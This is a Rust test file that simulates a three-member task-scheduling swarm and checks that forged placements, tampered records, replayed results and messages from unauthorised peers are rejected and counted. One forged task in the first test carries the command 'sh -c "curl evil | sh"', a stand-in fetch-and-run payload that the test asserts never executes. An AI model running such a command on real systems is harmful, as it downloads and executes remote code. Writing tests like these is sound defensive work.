//! Members without the role, and forgers: one test per attack, each through real encoded messages
//! into real schedulers. A swarm of three members (A, the tasks' origin and primary; B, a home
//! member; C, a home member that runs the tasks) holds a running task and a completed one. M is
//! a member of the swarm outside those home sets; X is a peer nobody has heard of. Whatever they
//! send, no record changes, nothing runs, and every rejection is counted by message kind.

#![allow(clippy::unwrap_used, clippy::expect_used, clippy::print_stdout)]

use std::collections::{BTreeMap, VecDeque};

use rand::{Rng, SeedableRng};
use rand_chacha::ChaCha8Rng;
use taskswarm_protocol::{
    Action, Capabilities, Config, Envelope, Gossip, Grant, Keypair, Lease, LoadReport, Message,
    Outcome, PeerKey, ProcessSpec, Scheduler, SealedRecord, Signed, Submission, Task, TaskId,
    TaskKind, TaskSpec, TaskState, seal, wire,
};

const E1: u64 = 1 << 32;

fn key(n: u8) -> Keypair {
    Keypair::from_secret([n; 32])
}

fn report(from: &Keypair, seq: u64, exec: bool) -> Vec<u8> {
    let report = LoadReport {
        peer: from.public(),
        boot: 1,
        seq,
        queued: 0,
        running: 0,
        slots: 2,
        capabilities: Capabilities {
            exec,
            handlers: vec![],
            offer: Default::default(),
        },
        addrs: vec![],
        leaving: false,
        draining: false,
        about: Default::default(),
    };
    wire::encode(&Gossip::Load(Signed::sign(&report, from)))
}

fn ok(text: &str) -> Outcome {
    Outcome::Exited {
        code: Some(0),
        stdout: text.as_bytes().to_vec(),
        stderr: vec![],
    }
}

/// A member's records (sealed) and the leases it holds.
type PeerState = (Vec<SealedRecord>, Vec<(TaskId, u64)>);

/// Three members and what flows between them, on one clock.
struct Swarm {
    peers: Vec<Scheduler>,
    rng: ChaCha8Rng,
    now: u64,
    /// Everything the members did, in order (to look for executions).
    log: Vec<(usize, Action)>,
}

impl Swarm {
    /// A, B, C (A and B run nothing, C runs processes in 2 slots), everyone knowing everyone; A
    /// takes three process tasks (home set A, B, C); C runs two and finishes the second; the
    /// third waits in C's queue. Then the members hear of M.
    fn new() -> (Self, [TaskId; 3]) {
        let config = |exec| Config {
            slots: 2,
            capabilities: Capabilities {
                exec,
                handlers: vec![],
                offer: Default::default(),
            },
            ..Config::default()
        };
        let peers = vec![
            Scheduler::new(key(1), config(false)),
            Scheduler::new(key(2), config(false)),
            Scheduler::new(key(3), config(true)),
        ];
        let mut swarm = Swarm {
            peers,
            rng: ChaCha8Rng::seed_from_u64(7),
            now: 0,
            log: Vec::new(),
        };
        for (i, exec) in [(1u8, false), (2, false), (3, true)] {
            for at in 0..3 {
                if at + 1 != i as usize {
                    swarm.gossip(at, &report(&key(i), 1, exec));
                }
            }
        }
        let kind = TaskKind::Process(ProcessSpec {
            program: "sleep".into(),
            args: vec!["60".into()],
            env: vec![],
            stdin: vec![],
        });
        let specs: Vec<Submission> = (0..3)
            .map(|n| TaskSpec::new(key(1).public(), n, kind.clone()).into())
            .collect();
        let now = swarm.now;
        let ids: Vec<TaskId> = swarm.peers[0]
            .submit(now, &mut swarm.rng, specs)
            .into_iter()
            .map(Result::unwrap)
            .collect();
        swarm.pump(0);
        let ids = [ids[0], ids[1], ids[2]];
        let c = &swarm.peers[2];
        assert_eq!((c.running(), c.queued()), (2, 1), "C runs two, queues one");
        swarm.now += 10;
        let now = swarm.now;
        swarm.peers[2].handle_finished(now, &mut swarm.rng, ids[1], E1, ok("done"));
        swarm.pump(2);
        for id in &ids {
            let home = &swarm.peers[0].task(id).unwrap().envelope.home;
            assert_eq!(home.len(), 3);
        }
        assert_eq!(
            swarm.peers[0].task(&ids[1]).unwrap().state,
            TaskState::Completed
        );
        for at in 0..3 {
            swarm.gossip(at, &report(&key(9), 1, true));
        }
        (swarm, ids)
    }

    fn index(key: PeerKey) -> Option<usize> {
        (1..=3).position(|n| self::key(n).public() == key)
    }

    fn gossip(&mut self, at: usize, bytes: &[u8]) {
        let now = self.now;
        self.peers[at].handle_gossip(now, &mut self.rng, bytes);
        self.pump(at);
    }

    /// Carries the messages `from` emitted (and what they cause) among the members until none is
    /// left; messages to others are dropped.
    fn pump(&mut self, from: usize) {
        let mut queue: VecDeque<(usize, usize, Vec<u8>)> = VecDeque::new();
        self.drain(from, &mut queue);
        while let Some((from, to, bytes)) = queue.pop_front() {
            let sender = self.peers[from].me();
            let now = self.now;
            self.peers[to].handle_message(now, &mut self.rng, sender, &bytes);
            self.drain(to, &mut queue);
        }
    }

    fn drain(&mut self, at: usize, queue: &mut VecDeque<(usize, usize, Vec<u8>)>) {
        while let Some(action) = self.peers[at].poll_action() {
            if let Action::Send { to, message } = &action
                && let Some(to) = Self::index(*to)
            {
                queue.push_back((at, to, wire::encode(message)));
            }
            self.log.push((at, action));
        }
    }

    /// Delivers one message from `from` (anyone) to member `to`, and what it causes.
    fn deliver(&mut self, from: PeerKey, to: usize, message: &Message) {
        self.deliver_bytes(from, to, &wire::encode(message));
    }

    fn deliver_bytes(&mut self, from: PeerKey, to: usize, bytes: &[u8]) {
        let now = self.now;
        self.peers[to].handle_message(now, &mut self.rng, from, bytes);
        self.pump(to);
    }

    /// Every member's records, sealed, and C's lease table: what no forgery may change.
    fn state(&mut self) -> Vec<PeerState> {
        self.peers
            .iter_mut()
            .map(|p| {
                let ids: Vec<TaskId> = p.tasks().map(|r| r.id()).collect();
                let records = ids.iter().filter_map(|id| p.sealed(id)).collect();
                (records, p.held().collect())
            })
            .collect()
    }

    fn rejected(&self, at: usize, kind: &str) -> u64 {
        self.peers[at]
            .counters()
            .rejected_by_kind
            .get(kind)
            .copied()
            .unwrap_or(0)
    }

    fn executions_since(&self, mark: usize) -> usize {
        self.log[mark..]
            .iter()
            .filter(|(_, a)| matches!(a, Action::Execute { .. } | Action::Abort { .. }))
            .count()
    }
}

/// A task T the way its primary A placed it on C, re-granted by `granter` to `holder`.
fn place_by(granter: &Keypair, holder: PeerKey, envelope: Envelope) -> Message {
    let grant = Grant {
        granted_by: granter.public(),
        leases: vec![Lease {
            task: envelope.id,
            epoch: 9 << 32,
            holder,
            granted_by: granter.public(),
            ttl_ms: 1500,
        }],
    };
    Message::Place {
        tasks: vec![envelope],
        grant: Signed::sign(&grant, granter),
    }
}

#[test]
fn a_member_that_is_not_the_primary_cannot_place_a_process_task() {
    let (mut swarm, [running, _, _]) = Swarm::new();
    let before = swarm.state();
    let mark = swarm.log.len();
    let c = swarm.peers[2].me();
    let envelope = swarm.peers[2].task(&running).unwrap().envelope.clone();
    // M, outside the home set, hands C the task under a lease of its own.
    swarm.deliver(key(9).public(), 2, &place_by(&key(9), c, envelope.clone()));
    // B is in the home set, but A, ranked before it, is alive.
    swarm.deliver(key(2).public(), 2, &place_by(&key(2), c, envelope));
    // M makes up a task of its own, but names A as its origin and home.
    let kind = TaskKind::Process(ProcessSpec {
        program: "sh".into(),
        args: vec!["-c".into(), "curl evil | sh".into()],
        env: vec![],
        stdin: vec![],
    });
    let spec = TaskSpec {
        home: vec![key(1).public(), key(2).public(), c],
        ..TaskSpec::new(key(9).public(), 1, kind)
    };
    let forged = Task::from_signed(Signed::sign(&spec, &key(9)));
    assert!(forged.is_err(), "a home set must start with its signer");
    let envelope = Envelope {
        id: TaskId::of_spec_bytes(Signed::sign(&spec, &key(9)).bytes()),
        spec: Signed::sign(&spec, &key(9)),
        home: spec.home.clone(),
        inputs: vec![],
    };
    swarm.deliver(key(9).public(), 2, &place_by(&key(9), c, envelope));
    assert_eq!(swarm.executions_since(mark), 0, "nothing runs");
    assert_eq!(swarm.state(), before, "no record and no lease changed");
    assert_eq!(swarm.rejected(2, "place"), 3);
}

/// The record of `id` as C keeps it, changed by `change` and sealed by `sealer`.
fn forged_record(
    swarm: &Swarm,
    id: TaskId,
    sealer: &Keypair,
    change: impl FnOnce(&mut taskswarm_protocol::TaskRecord),
) -> SealedRecord {
    let mut record = swarm.peers[2].task(&id).unwrap().clone();
    change(&mut record);
    let seal = seal::seal(sealer, &[seal::digest(&record)]).remove(0);
    SealedRecord { record, seal }
}

#[test]
fn a_forged_store_is_refused_and_the_record_unchanged() {
    let (mut swarm, [running, _, _]) = Swarm::new();
    let before = swarm.state();
    let complete = |r: &mut taskswarm_protocol::TaskRecord| {
        r.state = TaskState::Completed;
        r.outcome = Some(ok("made up"));
        r.version += 10;
    };
    // M, outside the home set, marks the running task completed with made-up output.
    let by_m = forged_record(&swarm, running, &key(9), complete);
    swarm.deliver(
        key(9).public(),
        1,
        &Message::Store {
            records: vec![by_m.clone()],
        },
    );
    // B relays M's record: B is a home member, but the seal is not one.
    swarm.deliver(
        key(2).public(),
        0,
        &Message::Store {
            records: vec![by_m],
        },
    );
    // A record A really sealed, changed after the seal, relayed by C.
    let mut tampered = swarm.peers[2].sealed(&running).unwrap();
    complete(&mut tampered.record);
    swarm.deliver(
        key(3).public(),
        1,
        &Message::Store {
            records: vec![tampered],
        },
    );
    // C rewrites the home set (M instead of B) and seals it as a home member.
    let rewritten = forged_record(&swarm, running, &key(3), |r| {
        r.envelope.home[1] = key(9).public();
        r.version += 10;
    });
    swarm.deliver(
        key(3).public(),
        0,
        &Message::Store {
            records: vec![rewritten],
        },
    );
    assert_eq!(swarm.state(), before, "every record unchanged");
    assert_eq!(swarm.rejected(1, "store"), 2);
    assert_eq!(swarm.rejected(0, "store"), 2);
    assert_eq!(
        swarm.peers[0].task(&running).unwrap().state,
        TaskState::Running
    );
}

#[test]
fn a_cancel_an_answer_and_a_completion_from_peers_not_entitled_are_refused() {
    let (mut swarm, [running, completed, queued]) = Swarm::new();
    let before = swarm.state();
    let mark = swarm.log.len();
    // X, never heard of, cancels the running task.
    swarm.deliver(
        key(7).public(),
        0,
        &Message::Cancel {
            task: running,
            by: Some("root".into()),
        },
    );
    assert_eq!(swarm.rejected(0, "cancel"), 1);
    // M, not holding the lease, reports a result for it; so does B, a home member.
    for forger in [key(9), key(2)] {
        let completed = Message::Completed {
            task: running,
            epoch: E1,
            outcome: ok("made up"),
        };
        swarm.deliver(forger.public(), 0, &completed);
    }
    assert_eq!(swarm.rejected(0, "completed"), 2);
    // B asks the members it knows about a task it does not keep. X, not asked, answers with the
    // question's number; M, asked, answers with the record of another task; M answers a question
    // nobody asked.
    let now = swarm.now;
    let unknown = TaskId::from_bytes([5; 32]);
    let query = swarm.peers[1].query(now, &mut swarm.rng, unknown);
    while swarm.peers[1].poll_action().is_some() {}
    let other = swarm.peers[0].sealed(&completed).map(Box::new);
    for (from, query) in [(key(7), query), (key(9), query), (key(9), query ^ 1)] {
        let answer = Message::Answer {
            query,
            record: other.clone(),
        };
        swarm.deliver(from.public(), 1, &answer);
    }
    assert_eq!(swarm.rejected(1, "answer"), 3);
    // M tells C its queued task is aborted, asks C about its leases, and tells A that B stored.
    swarm.deliver(
        key(9).public(),
        2,
        &Message::Abort {
            task: queued,
            epoch: E1,
        },
    );
    swarm.deliver(
        key(9).public(),
        2,
        &Message::Confirm {
            tasks: vec![(running, E1)],
        },
    );
    swarm.deliver(
        key(9).public(),
        0,
        &Message::Stored {
            acks: vec![(running, 99)],
        },
    );
    assert_eq!(swarm.rejected(2, "abort"), 1);
    assert_eq!(swarm.rejected(2, "confirm"), 1);
    assert_eq!(swarm.rejected(0, "stored"), 1);
    assert_eq!(swarm.executions_since(mark), 0);
    assert_eq!(swarm.state(), before);

    // A member carrying a client's decision may cancel.
    swarm.deliver(
        key(9).public(),
        0,
        &Message::Cancel {
            task: running,
            by: Some("ops".into()),
        },
    );
    let record = swarm.peers[0].task(&running).unwrap();
    assert_eq!(record.state, TaskState::Cancelled);
    assert_eq!(
        record.history.last().unwrap().note,
        "cancelled by client ops"
    );
}

/// 10,000 forged or replayed messages of every kind: wrong keys, flipped bytes, old epochs,
/// replays after completion, senders without the role. Every one is rejected and counted, no
/// record or lease changes, nothing runs, nothing panics.
#[test]
fn ten_thousand_forged_or_replayed_messages_change_nothing() {
    let (mut swarm, [running, completed, queued]) = Swarm::new();
    let before = swarm.state();
    let mark = swarm.log.len();
    let counted = |swarm: &Swarm| -> u64 {
        swarm
            .peers
            .iter()
            .map(|p| {
                let c = p.counters();
                c.rejected() + c.completions_stale + c.completions_duplicate
            })
            .sum()
    };
    let counted_before = counted(&swarm);
    let mut rng = ChaCha8Rng::seed_from_u64(99);
    let c = swarm.peers[2].me();
    let sealed = swarm.peers[2].sealed(&running).unwrap();
    let envelope = sealed.record.envelope.clone();
    let store = wire::encode(&Message::Store {
        records: vec![sealed],
    });
    // Where the record starts in the encoded Store: after the variant and the vector length.
    let record_at = 2;
    let mut kinds: BTreeMap<&str, u64> = BTreeMap::new();
    for n in 0..10_000u32 {
        let kind = match n % 10 {
            // Placements under leases signed by M, or by B pretending to lead.
            0 => {
                let granter = if rng.random_bool(0.5) { key(9) } else { key(2) };
                let message = place_by(&granter, c, envelope.clone());
                swarm.deliver(granter.public(), 2, &message);
                "place, wrong key"
            }
            // A real record with one byte flipped, relayed by a home member.
            1 | 2 => {
                let mut bytes = store.clone();
                let at = rng.random_range(record_at..bytes.len());
                bytes[at] ^= 1 << rng.random_range(0..8);
                swarm.deliver_bytes(key(2).public(), 0, &bytes);
                "store, flipped byte"
            }
            // The real holder's result under an old epoch.
            3 => {
                let message = Message::Completed {
                    task: running,
                    epoch: rng.random_range(0..E1),
                    outcome: ok("late"),
                };
                swarm.deliver(c, 0, &message);
                "completed, old epoch"
            }
            // The real holder's result, replayed after the task completed.
            4 => {
                let message = Message::Completed {
                    task: completed,
                    epoch: E1,
                    outcome: ok("again"),
                };
                swarm.deliver(c, 0, &message);
                "completed, replayed after completion"
            }
            // Results from peers that do not hold the lease.
            5 => {
                let forger = [key(9), key(2), key(7)][rng.random_range(0..3)].public();
                let message = Message::Completed {
                    task: [running, queued][rng.random_range(0..2)],
                    epoch: E1,
                    outcome: ok("made up"),
                };
                swarm.deliver(forger, 0, &message);
                "completed, not the holder"
            }
            // Cancels from a peer nobody knows.
            6 => {
                let message = Message::Cancel {
                    task: running,
                    by: None,
                };
                swarm.deliver(key(7).public(), 0, &message);
                "cancel, unknown peer"
            }
            // Answers nobody asked for.
            7 => {
                let message = Message::Answer {
                    query: rng.random(),
                    record: None,
                };
                swarm.deliver(key(9).public(), 1, &message);
                "answer, not asked"
            }
            // Aborts, lease checks and settlements from outside the home set.
            8 => {
                let message = match rng.random_range(0..3) {
                    0 => Message::Abort {
                        task: queued,
                        epoch: E1,
                    },
                    1 => Message::Confirm {
                        tasks: vec![(running, E1)],
                    },
                    _ => Message::Recorded {
                        tasks: vec![(running, E1)],
                    },
                };
                swarm.deliver(key(9).public(), 2, &message);
                "abort/confirm/recorded, outside the home set"
            }
            // Started, Refused and Missing about a lease someone else holds.
            _ => {
                let message = match rng.random_range(0..3) {
                    0 => Message::Started {
                        tasks: vec![(queued, E1)],
                    },
                    1 => Message::Refused {
                        task: running,
                        epoch: E1,
                    },
                    _ => Message::Missing {
                        tasks: vec![(running, E1)],
                    },
                };
                swarm.deliver(key(9).public(), 0, &message);
                "started/refused/missing, not the holder"
            }
        };
        *kinds.entry(kind).or_default() += 1;
    }
    assert_eq!(swarm.executions_since(mark), 0, "nothing ran or stopped");
    assert_eq!(swarm.state(), before, "no record and no lease changed");
    let rejected = counted(&swarm) - counted_before;
    assert_eq!(rejected, 10_000, "every one counted: {kinds:?}");
    let by_kind: BTreeMap<&str, u64> = swarm
        .peers
        .iter()
        .flat_map(|p| p.counters().rejected_by_kind.clone())
        .fold(BTreeMap::new(), |mut all, (k, n)| {
            *all.entry(k).or_default() += n;
            all
        });
    assert!(by_kind.len() >= 8, "{by_kind:?}");
    println!("sent: {kinds:?}");
    println!("rejected {rejected} of 10000, by message kind: {by_kind:?}");
}

/// A swarm-wide list takes an answer only from a peer it asked, once, and from it only the
/// records whose home set names it: a stranger's answer, a second answer, and records a member
/// does not keep are refused and counted, and the page holds every task once.
#[test]
fn list_answers_from_peers_not_asked_or_for_records_they_do_not_keep_are_refused() {
    use taskswarm_protocol::listing::{ListAnswer, ListEntry, ListFilter};
    let (mut swarm, ids) = Swarm::new();
    let now = swarm.now;
    // B lists the swarm: A and C answer at once; M, asked too, is not reached.
    let ticket = swarm.peers[1].list(now, &mut swarm.rng, ListFilter::default(), 100);
    swarm.pump(1);
    let forged = ListAnswer {
        entries: ids
            .iter()
            .map(|id| ListEntry {
                sealed: swarm.peers[0].sealed(id).unwrap(),
                why: None,
            })
            .collect(),
        more: false,
        counts: Default::default(),
    };
    let listed = Message::Listed {
        query: ticket,
        answer: forged,
    };
    // X was not asked.
    swarm.deliver(key(7).public(), 1, &listed);
    assert_eq!(swarm.rejected(1, "listed"), 1);
    // M was asked, but keeps none of these records: each is refused; then M answers again.
    swarm.deliver(key(9).public(), 1, &listed);
    assert_eq!(swarm.rejected(1, "listed"), 4);
    swarm.deliver(key(9).public(), 1, &listed);
    assert_eq!(swarm.rejected(1, "listed"), 5);
    let page = swarm
        .log
        .iter()
        .find_map(|(at, a)| match a {
            Action::Listed { ticket: t, page } if *at == 1 && *t == ticket => Some(page.clone()),
            _ => None,
        })
        .expect("the list ended once every peer asked had answered");
    assert_eq!((page.asked, page.answered), (4, 4));
    let mut listed: Vec<TaskId> = page.entries.iter().map(|e| e.sealed.record.id()).collect();
    listed.sort();
    let mut expected = ids.to_vec();
    expected.sort();
    assert_eq!(listed, expected);
    // A waiting task says why; the running and the ended ones say nothing.
    for entry in &page.entries {
        let record = &entry.sealed.record;
        let waits = record.state == TaskState::Waiting;
        assert_eq!(
            entry.why.is_some(),
            waits,
            "{:?}: {:?}",
            record.state,
            entry.why
        );
    }
}
